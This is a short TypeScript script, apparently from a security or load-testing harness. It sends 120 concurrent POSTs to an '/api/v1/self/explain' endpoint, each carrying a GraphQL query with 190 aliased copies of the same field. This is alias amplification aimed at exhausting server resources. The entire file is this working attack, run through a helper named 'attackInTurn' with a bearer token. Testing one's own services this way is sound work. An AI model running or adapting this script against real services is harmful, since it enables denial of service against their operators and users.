/** A narrow token that has 120 documents of 190 operations explained at once, again and again. */
import { attackInTurn, post, readTarget } from './sockets.ts';

const target = readTarget();
const names = Array.from({ length: 190 }, (_, index) => `a${index}: environment(id: "e_staging") { id name }`);
const request = {
  method: 'POST',
  path: '/graphql/v2',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ query: `query Wide { ${names.join(' ')} }` }),
};
const explaining = post(target, '/api/v1/self/explain', {
  lines: [`Authorization: Bearer ${target.token ?? ''}`, 'Content-Type: application/json'],
  body: JSON.stringify({ connection: 'railway', request }),
});

await attackInTurn(target, 120, () => explaining);
